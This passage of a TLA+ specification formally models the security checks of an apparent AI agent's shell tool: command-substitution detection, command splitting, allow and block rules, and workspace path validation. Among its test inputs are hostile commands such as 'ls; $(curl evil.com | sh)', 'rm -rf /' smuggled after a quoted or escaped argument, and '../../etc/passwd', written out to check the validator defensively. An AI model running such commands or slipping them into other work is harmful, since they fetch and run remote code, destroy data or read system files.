accessSync(fs, p, flag) ==
    /\ realpathSync(fs, p).ok
    /\ flag \in Mode(NodeAt(fs, realpathSync(fs, p).path))

\* the error messages of the read and write validation
AccessErrors ==
    [ notExist          |-> "File does not exist",
      isDirectory       |-> "Path is a directory, not a file",
      notReadable       |-> "File is not readable",
      readFailed        |-> "Read validation failed",
      noParent          |-> "Parent directory does not exist",
      parentNotWritable |-> "Parent directory is not writable",
      notWritable       |-> "File is not writable",
      writeFailed       |-> "Write validation failed" ]

\* fs answers the base validation and the existsSync calls, late the statSync
\* and accessSync calls that follow them
validateReadPath(path, dir, fs, late) ==
    LET baseValidation == validateAndSanitizePath(path, dir, fs, fs)
        sanitizedPath == baseValidation.sanitizedPath
    IN
    \* the base validation is called outside the try block
    IF "thrown" \in DOMAIN baseValidation THEN Thrown
    ELSE IF ~baseValidation.isValid THEN baseValidation
    ELSE
      CatchAs(
        IF ~existsSync(fs, sanitizedPath) THEN Invalid(AccessErrors.notExist)
        ELSE IF ~statSync(late, sanitizedPath).ok THEN Thrown
        ELSE IF isDirectory(late, statSync(late, sanitizedPath))
        THEN Invalid(AccessErrors.isDirectory)
        ELSE IF ~accessSync(late, sanitizedPath, "r")
        THEN Invalid(AccessErrors.notReadable)
        ELSE [isValid |-> TRUE, sanitizedPath |-> sanitizedPath],
        AccessErrors.readFailed)

validateWritePath(path, dir, fs, late) ==
    LET baseValidation == validateAndSanitizePath(path, dir, fs, fs)
        sanitizedPath == baseValidation.sanitizedPath
        parentDir == pathDirname(sanitizedPath)
    IN
    IF "thrown" \in DOMAIN baseValidation THEN Thrown
    ELSE IF ~baseValidation.isValid THEN baseValidation
    ELSE
      CatchAs(
        IF ~existsSync(fs, parentDir) THEN Invalid(AccessErrors.noParent)
        ELSE IF ~accessSync(late, parentDir, "w")
        THEN Invalid(AccessErrors.parentNotWritable)
        ELSE IF ~existsSync(fs, sanitizedPath)
        THEN [isValid |-> TRUE, sanitizedPath |-> sanitizedPath]
        ELSE IF ~statSync(late, sanitizedPath).ok THEN Thrown
        ELSE IF isDirectory(late, statSync(late, sanitizedPath))
        THEN Invalid(AccessErrors.isDirectory)
        ELSE IF ~accessSync(late, sanitizedPath, "w")
        THEN Invalid(AccessErrors.notWritable)
        ELSE [isValid |-> TRUE, sanitizedPath |-> sanitizedPath],
        AccessErrors.writeFailed)

(***************************************************************************)
(* detectPathSecurityIssues (src/unnamed/part_001 635-672).                *)
(***************************************************************************)
\* some of the characters of [\x00-\x1f\x7f-\x9f]: NUL, tab, line feed,
\* escape and delete
ControlChars == { NullByte, "\t", "\n", "ESC", "DEL" }

\* filePath.length > 4096
SafePathLength == 4096

IssueMessages ==
    [ parent  |-> "Contains parent directory references (..)",
      nul     |-> "Contains null bytes",
      control |-> "Contains control characters",
      home    |-> "Contains home directory reference (~)",
      env     |-> "Contains environment variable references",
      url     |-> "Contains URL-encoded characters",
      hex     |-> "Contains hex-encoded characters",
      length  |-> "Path length exceeds safe limit (4096 characters)" ]

\* issues.push(message) if the test holds
PushIf(test, message) == IF test THEN <<message>> ELSE <<>>

\* a report that stops at the first issue
detectFirstIssueOnly(path) ==
    IF Includes(path, DotDotComp) THEN <<IssueMessages.parent>>
    ELSE IF Includes(path, <<NullByte>>) THEN <<IssueMessages.nul>>
    ELSE IF \E i \in 1..Len(path) : path[i] \in ControlChars
    THEN <<IssueMessages.control>>
    ELSE IF Includes(path, <<"~">>) THEN <<IssueMessages.home>>
    ELSE <<>>

detectPathSecurityIssues(path) ==
    PushIf(Includes(path, DotDotComp), IssueMessages.parent)
    \o PushIf(Includes(path, <<NullByte>>), IssueMessages.nul)
    \o PushIf(\E i \in 1..Len(path) : path[i] \in ControlChars,
              IssueMessages.control)
    \o PushIf(Includes(path, <<"~">>), IssueMessages.home)
    \o PushIf(\E i \in 1..Len(path) :
                 /\ path[i] = "$"
                 /\ \/ CharAt(path, i + 1) \in WordChars
                    \/ /\ CharAt(path, i + 1) \in {"(", "{"}
                       /\ CharAt(path, i + 2) \in WordChars,
              IssueMessages.env)
    \o PushIf(\E i \in 1..Len(path) : path[i] = "%" /\ HexRunAt(path, i + 1, 2),
              IssueMessages.url)
    \o PushIf(\E i \in 1..Len(path) :
                 MatchAt(path, i, <<"\\", "x">>) /\ HexRunAt(path, i + 2, 2),
              IssueMessages.hex)
    \o PushIf(Len(path) > SafePathLength, IssueMessages.length)

(***************************************************************************)
(* getCommandRoot (shell-utils.ts 73-95).                                  *)
(***************************************************************************)
\* the first index at or after i where s holds ch, 0 if there is none
RECURSIVE IndexFrom(_, _, _)
IndexFrom(s, ch, i) ==
    IF i > Len(s) THEN 0
    ELSE IF s[i] = ch THEN i
    ELSE IndexFrom(s, ch, i + 1)

\* the capture group of ^"([^"]+)" or ^'([^']+)' for the quote q, the empty
\* string when the alternative does not match
QuotedWord(s, q) ==
    IF /\ Len(s) >= 3
       /\ s[1] = q
       /\ s[2] # q
       /\ IndexFrom(s, q, 3) # 0
    THEN SubSeq(s, 2, IndexFrom(s, q, 3) - 1)
    ELSE <<>>

\* the capture group of ^(\S+)
RECURSIVE FirstToken(_)
FirstToken(s) ==
    IF s = <<>> \/ Head(s) \in WhiteSpace THEN <<>>
    ELSE <<Head(s)>> \o FirstToken(Tail(s))

\* commandRoot.split(/[\\/]/).pop()
RECURSIVE LastSegment(_)
LastSegment(w) ==
    IF w = <<>> THEN <<>>
    ELSE IF w[Len(w)] \in Slashes THEN <<>>
    ELSE Append(LastSegment(SubSeq(w, 1, Len(w) - 1)), w[Len(w)])

\* a root taken from the first whitespace-delimited token only
getCommandRootOfToken(cmd) ==
    IF Trim(cmd) = <<>> THEN JsUndefined ELSE LastSegment(FirstToken(Trim(cmd)))

getCommandRoot(cmd) ==
    LET trimmedCommand == Trim(cmd)
        match1 == QuotedWord(trimmedCommand, "\"")
        match2 == QuotedWord(trimmedCommand, "'")
        match3 == FirstToken(trimmedCommand)
        root == IF match1 # <<>> THEN match1
                ELSE IF match2 # <<>> THEN match2
                ELSE match3
    IN IF trimmedCommand = <<>> THEN JsUndefined
       ELSE IF root = <<>> THEN JsUndefined
       ELSE LastSegment(root)

(***************************************************************************)
(* Inputs.  Every input string is a concatenation of at most a bounded     *)
(* number of fragments.                                                    *)
(***************************************************************************)
Inputs(fragments, n) ==
    { Concat(f) : f \in UNION { [1..k -> fragments] : k \in 0..n } }

DetectFragments ==
    { <<"$">>, <<"$", "(">>, <<")">>, <<Backtick>>, <<"'">>, <<"\"">>,
      <<"\\">>, <<"a">>, <<";">>, << "<", "(" >>, <<"{">>, <<"}">> }

SplitFragments ==
    { <<"a">>, <<" ">>, <<";">>, <<"&">>, <<"|">>, <<"'">>, <<"\"">>, <<"\\">> }

CmdFragments == { <<"a">>, <<"b">>, <<" ">>, <<";">>, <<"$">> }

PathFragments == { <<"/">>, <<".">>, <<"w">>, <<"e">>, <<"a">> }

\* characters of the path patterns: a parent reference, both slashes, the
\* home sign, the variable sign and brace, the percent sign, x (a word
\* character that is no hex digit), a (a word character and hex digit), NUL
PatternFragments ==
    { <<".", ".">>, <<"/">>, <<"\\">>, <<"~">>, <<"$">>, <<"{">>, <<"}">>,
      <<"%">>, <<"x">>, <<"a">>, <<NullByte>> }

\* characters of a sub-command's first word: both quotes, both slashes, a
\* letter and a blank
RootFragments ==
    { <<"\"">>, <<"'">>, <<"/">>, <<"\\">>, <<"a">>, <<" ">> }

\* characters of an invocation of the command b: path-qualified, quoted or
\* chained
RuleFragments ==
    { <<"b">>, <<"/">>, <<"'">>, <<"\"">>, <<" ">>, <<";">> }

(***************************************************************************)
(* The commands the specification names, in addition to the enumerated     *)
(* inputs.                                                                 *)
(***************************************************************************)
\* echo '$(rm -rf /)'
ExampleQuotedSubstitution ==
    <<"e","c","h","o"," ","'","$","(","r","m"," ","-","r","f"," ","/",")",
      "'">>

\* git commit -m 'fix $(x)'
ExampleQuotedCommit ==
    <<"g","i","t"," ","c","o","m","m","i","t"," ","-","m"," ","'","f","i",
      "x"," ","$","(","x",")","'">>

\* ls; $(curl evil.com | sh)
ExampleChainedSubstitution ==
    <<"l","s",";"," ","$","(","c","u","r","l"," ","e","v","i","l",".","c",
      "o","m"," ","|"," ","s","h",")">>

\* git status && npm test
ExampleAndChain ==
    <<"g","i","t"," ","s","t","a","t","u","s"," ","&","&"," ","n","p","m",
      " ","t","e","s","t">>

\* git status
GitStatus ==
    <<"g","i","t"," ","s","t","a","t","u","s">>

\* npm test
NpmTest ==
    <<"n","p","m"," ","t","e","s","t">>

\* echo 'a;b' ; echo c
ExampleQuotedSemicolon ==
    <<"e","c","h","o"," ","'","a",";","b","'"," ",";"," ","e","c","h","o",
      " ","c">>

\* echo 'a;b'
EchoQuoted ==
    <<"e","c","h","o"," ","'","a",";","b","'">>

\* echo c
EchoC ==
    <<"e","c","h","o"," ","c">>

\* "/usr/bin/git" status
ExampleQuotedGitPath ==
    <<"\"","/","u","s","r","/","b","i","n","/","g","i","t","\""," ","s","t",
      "a","t","u","s">>

\* 'git' status
ExampleQuotedGit == <<"'","g","i","t","'"," ","s","t","a","t","u","s">>

\* /usr/bin/git status
ExampleGitPath ==
    <<"/","u","s","r","/","b","i","n","/","g","i","t"," ","s","t","a","t",
      "u","s">>

RootExamples == { ExampleQuotedGitPath, ExampleQuotedGit, ExampleGitPath }

\* echo 'a\' ; rm -rf /
ExampleEscapedQuote ==
    <<"e","c","h","o"," ","'","a","\\","'"," ",";"," ","r","m"," ","-","r",
      "f"," ","/">>

\* echo 'a\'
EchoEscapedQuote == <<"e","c","h","o"," ","'","a","\\","'">>

\* rm -rf /
RmRfRoot == <<"r","m"," ","-","r","f"," ","/">>

\* rm -rf x
ExampleRm == <<"r","m"," ","-","r","f"," ","x">>

\* /bin/rm -rf x
ExampleRmPath == <<"/","b","i","n","/","r","m"," ","-","r","f"," ","x">>

\* 'rm' -rf x
ExampleRmSingleQuoted == <<"'","r","m","'"," ","-","r","f"," ","x">>

\* "rm" -rf x
ExampleRmDoubleQuoted == <<"\"","r","m","\""," ","-","r","f"," ","x">>

RuleExamples ==
    { ExampleRm, ExampleRmPath, ExampleRmSingleQuoted, ExampleRmDoubleQuoted }

\* git   status
ExampleGitSpacedStatus ==
    <<"g","i","t"," "," "," ","s","t","a","t","u","s">>

\* git
ExampleGit == <<"g","i","t">>

\* gitk
ExampleGitk == <<"g","i","t","k">>

MatchExamples == { ExampleGit, ExampleGitSpacedStatus, ExampleGitk }

\* characters of a command matched against the rule b: the letter, both kinds
\* of blank and a separator
MatchFragments == { <<"b">>, <<" ">>, <<"\t">>, <<";">> }

\* no shell rule, the rules b and git, a rule with an empty prefix, and a rule
\* whose prefix is written with extra blanks
\* characters of the commands of a session: an allowed and a blocked command
\* name and a separator
ConfirmFragments == { <<"a">>, <<"b">>, <<";">> }

\* b a
ExampleBlockedInvocation == <<"b", " ", "a">>

\* the commands a session may go on with: b, and b a, which a block rule
\* names
NextCommands == { <<"b">>, ExampleBlockedInvocation }

MatchRuleOptions ==
    { <<>>,
      <<ToolRule(RunShellCommand, <<"b">>)>>,
      <<ToolRule(RunShellCommand, <<>>)>>,
      <<ToolRule(ShellTool, <<" ", "b", " ", "\t", "b", " ">>)>>,
      <<ToolRule(RunShellCommand, ExampleGit)>> }

MatchSessionOptions ==
    { NoSessionAllowlist,
      SessionAllowlistOf({}),
      SessionAllowlistOf({<<"\t", "b", " ">>}),
      SessionAllowlistOf({<<>>}) }

\* echo `whoami
ExampleUnpairedBacktick ==
    <<"e", "c", "h", "o", " ", Backtick, "w", "h", "o", "a", "m", "i">>

\* echo "<(x)"
ExampleQuotedProcessInput ==
    <<"e", "c", "h", "o", " ", "\"", "<", "(", "x", ")", "\"">>

\* echo ">(x)"
ExampleQuotedProcessOutput ==
    <<"e", "c", "h", "o", " ", "\"", ">", "(", "x", ")", "\"">>

\* cat <(x)
ExampleProcessInput == <<"c", "a", "t", " ", "<", "(", "x", ")">>

\* tee >(x)
ExampleProcessOutput == <<"t", "e", "e", " ", ">", "(", "x", ")">>

DetectExamples ==
    { ExampleQuotedSubstitution, ExampleQuotedCommit, ExampleChainedSubstitution,
      ExampleUnpairedBacktick, ExampleQuotedProcessInput,
      ExampleQuotedProcessOutput, ExampleProcessInput, ExampleProcessOutput }

\* echo '\'' ; rm -rf /
ExampleReopenedQuote ==
    <<"e","c","h","o"," ","'","\\","'","'"," ",";"," ","r","m"," ","-","r","f"," ","/">>

SplitExamples ==
    { ExampleAndChain, ExampleQuotedSemicolon, ExampleEscapedQuote,
      ExampleReopenedQuote }

CmdExamples == { ExampleChainedSubstitution, ExampleQuotedCommit }

CoreToolsOptions ==
    { <<>>,
      <<ShellTool>>,
      <<ReadFileTool>>,
      <<ReadFileTool, ToolRule(RunShellCommand, <<"a">>),
        ToolRule(ShellTool, <<" ", "b", " ">>)>> }

ExcludeToolsOptions ==
    { <<>>,
      <<RunShellCommand>>,
      <<ReadFileTool, ToolRule(ShellTool, <<"b">>)>> }

SessionAllowlistOptions ==
    { NoSessionAllowlist,
      SessionAllowlistOf({}),
      SessionAllowlistOf({<<"b", " ">>}) }

\* the directories of the filesystems below
DirW == <<"/", "w">>
DirE == <<"/", "e">>
DirWE == <<"/", "w", "e">>
LinkL == <<"/", "l">>
\* a directory that exists in none of the filesystems
DirMissing == <<"/", "a">>
\* /w%20, a workspace directory whose name holds a percent sign and two digits
DirPercent == <<"/", "w", "%", "2", "0">>

Dir == [type |-> "dir", target |-> <<>>]
File == [type |-> "file", target |-> <<>>]
Link(target) == [type |-> "link", target |-> target]

\* workspace /w with a file, an outside directory /e, a sibling /we whose
\* name extends the workspace's, and /l, a symbolic link to the workspace
BaseFs ==
    (DirW :> Dir) @@ (DirW \o <<"/", "e">> :> File)
    @@ (DirE :> Dir) @@ (DirE \o <<"/", "a">> :> File)
    @@ (DirWE :> Dir) @@ (DirWE \o <<"/", "a">> :> File)
    @@ (LinkL :> Link(DirW))
    @@ (DirPercent :> Dir)

PathWA == DirW \o <<"/", "a">>

\* the filesystems: what /w/a is
FsOptions ==
    { BaseFs,
      (PathWA :> File) @@ BaseFs,
      (PathWA :> Dir) @@ (PathWA \o <<"/", "a">> :> File) @@ BaseFs,
      (PathWA :> Link(DirE \o <<"/", "a">>)) @@ BaseFs,
      (PathWA :> Link(DirW \o <<"/", "e">>)) @@ BaseFs,
      (PathWA :> Link(DirE)) @@ BaseFs,
      (PathWA :> Link(DirE \o <<"/", "w">>)) @@ BaseFs }

\* a/../b
ExampleInnerParent == <<"a", "/", ".", ".", "/", "b">>

\* ../../etc/passwd
ExampleEtcPasswd ==
    <<".", ".", "/", ".", ".", "/", "e", "t", "c", "/", "p", "a", "s", "s",
      "w", "d">>

\* subdir/file.txt
ExampleSubdirFile ==
    <<"s", "u", "b", "d", "i", "r", "/", "f", "i", "l", "e", ".", "t", "x",
      "t">>

\* /workspace
DirWorkspace == <<"/", "w", "o", "r", "k", "s", "p", "a", "c", "e">>

\* paths with one control character (NUL, tab, line feed, escape, delete) at
\* the start, inside or at the end of a name
ControlCharPaths ==
    { pre \o <<c>> \o post :
        pre \in { <<>>, <<"a">>, <<"a", "/">> },
        post \in { <<>>, <<"b">>, <<"/", "b">> },
        c \in ControlChars }

PatternExamples == { ExampleInnerParent, ExampleEtcPasswd, ExampleSubdirFile }

\* $(a)
ExampleParenVariable == <<"$", "(", "a", ")">>

\* a path of n letters
LongPath(n) == [i \in 1..n |-> "a"]

\* paths with a control character, with every kind of issue at once, and at
\* and just above the length limit
IssueExamples ==
    { ExampleParenVariable, ExampleEtcPasswd, ExampleSubdirFile,
      <<"a", "\t", "b">>, <<"a", "DEL">>, <<"ESC", "~">>,
      <<".", ".", NullByte, "~", "$", "a", "%", "a", "a", "\\", "x", "a", "a">>,
      LongPath(SafePathLength - 1), LongPath(SafePathLength),
      LongPath(SafePathLength + 1),
      <<".", ".">> \o LongPath(SafePathLength) }

WorkspaceDirOptions == { DirW, LinkL, DirMissing, DirW \o <<"/">>, DirPercent }

\* the arguments of the gateway's entry points: short paths and the values
\* that are not strings
GatewayFragments == { <<"/">>, <<"w">>, <<"a">>, <<"e">> }

GatewayPaths ==
    Inputs(GatewayFragments, MaxGatewayLen) \cup {JsNull, JsUndefined, JsNumber}

GatewayDirs == { DirW, DirMissing, JsUndefined }

FileMode(mode) == [type |-> "file", target |-> <<>>, mode |-> mode]
DirMode(mode) == [type |-> "dir", target |-> <<>>, mode |-> mode]

\* what /w/a is and what the calling user may do with it and with /w
GatewayFsOptions ==
    { BaseFs,
      (PathWA :> File) @@ BaseFs,
      (PathWA :> FileMode({"w"})) @@ BaseFs,
      (PathWA :> FileMode({"r"})) @@ BaseFs,
      (PathWA :> Dir) @@ (PathWA \o <<"/", "a">> :> File) @@ BaseFs,
      (PathWA :> Link(DirE \o <<"/", "a">>)) @@ BaseFs,
      (PathWA :> Link(DirW \o <<"/", "e">>)) @@ BaseFs,
      (DirW :> DirMode({"r"})) @@ (PathWA :> File) @@ BaseFs }

\* the filesystem without one entry
Remove(fs, p) == [q \in DOMAIN fs \ {p} |-> fs[q]]

\* what the filesystem may have become while a call runs: unchanged, or
\* another process has removed /w/a or /e/a
LaterFs(fs) == { fs, Remove(fs, PathWA), Remove(fs, DirE \o <<"/", "a">>) }

\* two callers of the gateway whose calls are in flight at the same time
Callers == {1, 2}

\* what a caller asks: a command to check or a path to validate
CallArgs ==
    { [kind |-> "check", arg |-> c] :
         c \in Inputs(CmdFragments, MaxConcurrentLen) \cup CmdExamples }
    \cup { [kind |-> "validate", arg |-> p] :
              p \in { <<"a">>, DirE, ExampleInnerParent } }

(***************************************************************************)
(* The callers.  Each specification draws the arguments of one entry point *)
(* and applies it.                                                         *)
(***************************************************************************)
NoCommandCall ==
    /\ detected = Undefined
    /\ commands = Undefined
    /\ verdict = Undefined
    /\ allowed = Undefined
    /\ commandRoot = Undefined

NoConfig ==
    /\ coreTools = <<>>
    /\ excludeTools = <<>>
    /\ sessionAllowlist = NoSessionAllowlist

NoPathCall ==
    /\ filePath = <<>>
    /\ workspaceDir = <<>>
    /\ fsys = <<>>
    /\ pathResult = Undefined
    /\ fsLate = <<>>
    /\ issues = Undefined
    /\ calls = <<>>

\* detectCommandSubstitution(command)
DetectCommandSubstitution ==
    /\ pc = "input"
    /\ detected' = detectCommandSubstitution(command)
    /\ pc' = "detected"
    /\ UNCHANGED <<command, commands, coreTools, excludeTools, sessionAllowlist,
                   verdict, allowed, commandRoot, pathVars>>

\* splitCommands(command)
SplitCommands ==
    /\ pc = "input"
    /\ commands' = splitCommands(command)
    /\ pc' = "split"
    /\ UNCHANGED <<command, detected, coreTools, excludeTools, sessionAllowlist,
                   verdict, allowed, commandRoot, pathVars>>

\* checkCommandPermissions(command, config, sessionAllowlist)
CheckCommandPermissions ==
    /\ pc = "input"
    /\ verdict' = checkCommandPermissions(command, coreTools, excludeTools,
                                          sessionAllowlist)
    /\ pc' = "done"
    /\ UNCHANGED <<command, detected, commands, coreTools, excludeTools,
                   sessionAllowlist, allowed, commandRoot, pathVars>>

\* isCommandAllowed(command, config), by a caller that holds no session allowlist
IsCommandAllowed ==
    /\ pc = "input"
    /\ ~sessionAllowlist.present
    /\ allowed' = isCommandAllowed(command, coreTools, excludeTools)
    /\ pc' = "allowed"
    /\ UNCHANGED <<command, detected, commands, coreTools, excludeTools,
                   sessionAllowlist, verdict, commandRoot, pathVars>>

\* validateAndSanitizePath(filePath, workspaceDir)
ValidateAndSanitizePath ==
    /\ pc = "input"
    /\ pathResult' = validateAndSanitizePath(filePath, workspaceDir, fsys, fsLate)
    /\ pc' = "validated"
    /\ UNCHANGED <<cmdVars, filePath, workspaceDir, fsys, fsLate, issues, calls>>

\* validateAndSanitizePath(sanitizedPath, workspaceDir): the caller hands the
\* sanitized path of an accepted result back to the validator
Revalidate ==
    /\ pc = "validated"
    /\ pathResult.isValid
    /\ filePath' = pathResult.sanitizedPath
    /\ pathResult' = validateAndSanitizePath(pathResult.sanitizedPath,
                                             workspaceDir, fsys, fsLate)
    /\ pc' = "revalidated"
    /\ UNCHANGED <<cmdVars, workspaceDir, fsys, fsLate, issues, calls>>

\* validateReadPath(filePath, workspaceDir)
ValidateReadPath ==
    /\ pc = "input"
    /\ pathResult' = validateReadPath(filePath, workspaceDir, fsys, fsLate)
    /\ pc' = "readValidated"
    /\ UNCHANGED <<cmdVars, filePath, workspaceDir, fsys, fsLate, issues, calls>>

\* validateWritePath(filePath, workspaceDir)
ValidateWritePath ==
    /\ pc = "input"
    /\ pathResult' = validateWritePath(filePath, workspaceDir, fsys, fsLate)
    /\ pc' = "writeValidated"
    /\ UNCHANGED <<cmdVars, filePath, workspaceDir, fsys, fsLate, issues, calls>>

\* a caller's call that adds what it checked to the shared session allowlist
CallAndRemember(i) ==
    /\ calls[i].kind = "check"
    /\ "result" \notin DOMAIN calls[i]
    /\ calls' = [calls EXCEPT ![i] =
                   calls[i] @@ [result |-> checkCommandPermissions(
                                   calls[i].arg, coreTools, excludeTools,
                                   sessionAllowlist)]]
    /\ sessionAllowlist' =
          IF sessionAllowlist.present
          THEN SessionAllowlistOf(sessionAllowlist.entries \cup {calls[i].arg})
          ELSE sessionAllowlist
    /\ UNCHANGED <<pc, command, detected, commands, coreTools, excludeTools,
                   verdict, allowed, commandRoot, filePath, workspaceDir, fsys,
                   pathResult, fsLate, issues>>

\* caller i's checkCommandPermissions(command, config, sessionAllowlist), the
\* configuration and the allowlist being the objects both callers share
CallCheckCommandPermissions(i) ==
    /\ calls[i].kind = "check"
    /\ "result" \notin DOMAIN calls[i]
    /\ calls' = [calls EXCEPT ![i] =
                   calls[i] @@ [result |-> checkCommandPermissions(
                                   calls[i].arg, coreTools, excludeTools,
                                   sessionAllowlist)]]
    /\ UNCHANGED <<pc, cmdVars, filePath, workspaceDir, fsys, pathResult,
                   fsLate, issues>>

\* caller i's validateAndSanitizePath(filePath, workspaceDir)
CallValidateAndSanitizePath(i) ==
    /\ calls[i].kind = "validate"
    /\ "result" \notin DOMAIN calls[i]
    /\ calls' = [calls EXCEPT ![i] =
                   calls[i] @@ [result |-> validateAndSanitizePath(
                                   calls[i].arg, workspaceDir, fsys, fsLate)]]
    /\ UNCHANGED <<pc, cmdVars, filePath, workspaceDir, fsys, pathResult,
                   fsLate, issues>>

\* The caller's confirmation loop.  calls is the log of the session: one
\* record per validation that has been acted upon, with the command, the
\* session allowlist it was validated under, the verdict, and whether the
\* user's confirmation added the denied commands to the allowlist.
LogEntry(added) ==
    [arg |-> command, session |-> sessionAllowlist, result |-> verdict,
     added |-> added]

\* the user confirms a soft denial: every string of disallowedCommands joins
\* the session allowlist, and the same command is validated again
GrantConfirmation ==
    /\ pc = "done"
    /\ Len(calls) < MaxRounds
    /\ sessionAllowlist.present
    /\ ~verdict.allAllowed
    /\ verdict.isHardDenial = FALSE
    /\ sessionAllowlist' =
          SessionAllowlistOf(sessionAllowlist.entries
                             \cup { verdict.disallowedCommands[k] :
                                      k \in 1..Len(verdict.disallowedCommands) })
    /\ calls' = Append(calls, LogEntry(TRUE))
    /\ pc' = "input"
    /\ UNCHANGED <<command, detected, commands, coreTools, excludeTools, verdict,
                   allowed, commandRoot, filePath, workspaceDir, fsys, pathResult,
                   fsLate, issues>>

\* nothing is added and the same command is validated again
ValidateAgain ==
    /\ pc = "done"
    /\ Len(calls) < MaxRounds
    /\ calls' = Append(calls, LogEntry(FALSE))
    /\ pc' = "input"
    /\ UNCHANGED <<cmdVars, filePath, workspaceDir, fsys, pathResult, fsLate,
                   issues>>

\* nothing is added and the session goes on with another command
ValidateNext ==
    /\ pc = "done"
    /\ Len(calls) < MaxRounds
    /\ command' \in NextCommands \ {command}
    /\ calls' = Append(calls, LogEntry(FALSE))
    /\ pc' = "input"
    /\ UNCHANGED <<detected, commands, coreTools, excludeTools, sessionAllowlist,
                   verdict, allowed, commandRoot, filePath, workspaceDir, fsys,
                   pathResult, fsLate, issues>>

\* getCommandRoot(command)
GetCommandRoot ==
    /\ pc = "input"
    /\ commandRoot' = getCommandRoot(command)
    /\ pc' = "rooted"
    /\ UNCHANGED <<command, detected, commands, coreTools, excludeTools,
                   sessionAllowlist, verdict, allowed, pathVars>>

\* detectPathSecurityIssues(filePath)
DetectPathSecurityIssues ==
    /\ pc = "input"
    /\ issues' = detectPathSecurityIssues(filePath)
    /\ pc' = "inspected"
    /\ UNCHANGED <<cmdVars, filePath, workspaceDir, fsys, pathResult, fsLate,
                   calls>>

DetectInit ==
    /\ pc = "input"
    /\ command \in Inputs(DetectFragments, MaxDetectLen) \cup DetectExamples
    /\ NoCommandCall /\ NoConfig /\ NoPathCall

DetectNext == DetectCommandSubstitution

DetectSpec == DetectInit /\ [][DetectNext]_vars

SplitInit ==
    /\ pc = "input"
    /\ command \in Inputs(SplitFragments, MaxSplitLen) \cup SplitExamples
    /\ NoCommandCall /\ NoConfig /\ NoPathCall

SplitNext == SplitCommands

SplitSpec == SplitInit /\ [][SplitNext]_vars

Init ==
    /\ pc = "input"
    /\ command \in Inputs(CmdFragments, MaxCmdLen) \cup CmdExamples
    /\ coreTools \in CoreToolsOptions
    /\ excludeTools \in ExcludeToolsOptions
    /\ sessionAllowlist \in SessionAllowlistOptions
    /\ NoCommandCall /\ NoPathCall

Next ==
    \/ CheckCommandPermissions
    \/ IsCommandAllowed

Spec == Init /\ [][Next]_vars

PathInit ==
    /\ pc = "input"
    /\ command = <<>>
    /\ NoCommandCall /\ NoConfig
    /\ filePath \in Inputs(PathFragments, MaxPathLen)
    /\ workspaceDir \in WorkspaceDirOptions
    /\ fsys \in FsOptions
    /\ pathResult = Undefined
    /\ fsLate = fsys
    /\ issues = Undefined
    /\ calls = <<>>

PathNext ==
    \/ ValidateAndSanitizePath
    \/ Revalidate

PathSpec == PathInit /\ [][PathNext]_vars

\* the pattern battery: every short string over the pattern characters against
\* one workspace, and the named paths against /workspace as well
PatternInit ==
    /\ pc = "input"
    /\ command = <<>>
    /\ NoCommandCall /\ NoConfig
    /\ \/ /\ filePath \in Inputs(PatternFragments, MaxPatternLen)
          /\ workspaceDir = DirW
       \/ /\ filePath \in PatternExamples
          /\ workspaceDir \in {DirW, DirWorkspace}
       \/ /\ filePath \in ControlCharPaths
          /\ workspaceDir = DirW
    /\ fsys = BaseFs
    /\ pathResult = Undefined
    /\ fsLate = fsys
    /\ issues = Undefined
    /\ calls = <<>>

PatternNext == ValidateAndSanitizePath

PatternSpec == PatternInit /\ [][PatternNext]_vars

\* the entry points with every kind of argument: a path call on a filesystem
\* that may change while the call runs, or a command call
GatewayInit ==
    /\ pc = "input"
    /\ \/ /\ command = <<>>
          /\ NoCommandCall /\ NoConfig
          /\ filePath \in GatewayPaths
          /\ workspaceDir \in GatewayDirs
          /\ fsys \in GatewayFsOptions
          /\ fsLate \in LaterFs(fsys)
          /\ pathResult = Undefined
          /\ issues = Undefined
          /\ calls = <<>>
       \/ /\ command \in Inputs(CmdFragments, MaxGatewayLen) \cup CmdExamples
          /\ coreTools \in CoreToolsOptions
          /\ excludeTools \in ExcludeToolsOptions
          /\ sessionAllowlist \in SessionAllowlistOptions
          /\ NoCommandCall /\ NoPathCall

GatewayNext ==
    \/ ValidateAndSanitizePath
    \/ ValidateReadPath
    \/ ValidateWritePath
    \/ CheckCommandPermissions

GatewaySpec == GatewayInit /\ [][GatewayNext]_vars

\* rule matching: short commands and the git examples against every pair of
\* rule lists and every session allowlist
MatchInit ==
    /\ pc = "input"
    /\ command \in Inputs(MatchFragments, MaxMatchLen) \cup MatchExamples
    /\ coreTools \in MatchRuleOptions
    /\ excludeTools \in MatchRuleOptions
    /\ sessionAllowlist \in MatchSessionOptions
    /\ NoCommandCall /\ NoPathCall

MatchNext == CheckCommandPermissions

MatchSpec == MatchInit /\ [][MatchNext]_vars

\* a session: a command is validated, and then validated again after a
\* confirmation or without one, or another command is
ConfirmInit ==
    /\ pc = "input"
    /\ command \in Inputs(ConfirmFragments, MaxConfirmLen) \cup NextCommands
    /\ coreTools \in { <<>>, <<ToolRule(RunShellCommand, <<"a">>)>> }
    /\ excludeTools \in { <<>>, <<ToolRule(ShellTool, ExampleBlockedInvocation)>> }
    /\ sessionAllowlist \in SessionAllowlistOptions
    /\ NoCommandCall /\ NoPathCall

ConfirmNext ==
    \/ CheckCommandPermissions
    \/ GrantConfirmation
    \/ ValidateAgain
    \/ ValidateNext

ConfirmSpec == ConfirmInit /\ [][ConfirmNext]_vars

\* two callers share one configuration, session allowlist, workspace and
\* filesystem; each remembers the arguments it was given
ConcurrentInit ==
    /\ pc = "input"
    /\ command = <<>>
    /\ NoCommandCall
    /\ coreTools \in CoreToolsOptions
    /\ excludeTools \in ExcludeToolsOptions
    /\ sessionAllowlist \in SessionAllowlistOptions
    /\ filePath = <<>>
    /\ workspaceDir = DirW
    /\ fsys = (PathWA :> Link(DirE \o <<"/", "a">>)) @@ BaseFs
    /\ fsLate = fsys
    /\ pathResult = Undefined
    /\ issues = Undefined
    /\ \E asked \in [Callers -> CallArgs] :
          calls = [i \in Callers |->
                     [kind |-> asked[i].kind, arg |-> asked[i].arg,
                      core |-> coreTools, exclude |-> excludeTools,
                      session |-> sessionAllowlist,
                      dir |-> workspaceDir, fs |-> fsys]]

ConcurrentNext ==
    \E i \in Callers :
       \/ CallCheckCommandPermissions(i)
       \/ CallValidateAndSanitizePath(i)

ConcurrentSpec == ConcurrentInit /\ [][ConcurrentNext]_vars

RootInit ==
    /\ pc = "input"
    /\ command \in Inputs(RootFragments, MaxRootLen) \cup RootExamples
    /\ NoCommandCall /\ NoConfig /\ NoPathCall

RootNext == GetCommandRoot

RootSpec == RootInit /\ [][RootNext]_vars

IssueInit ==
    /\ pc = "input"
    /\ command = <<>>
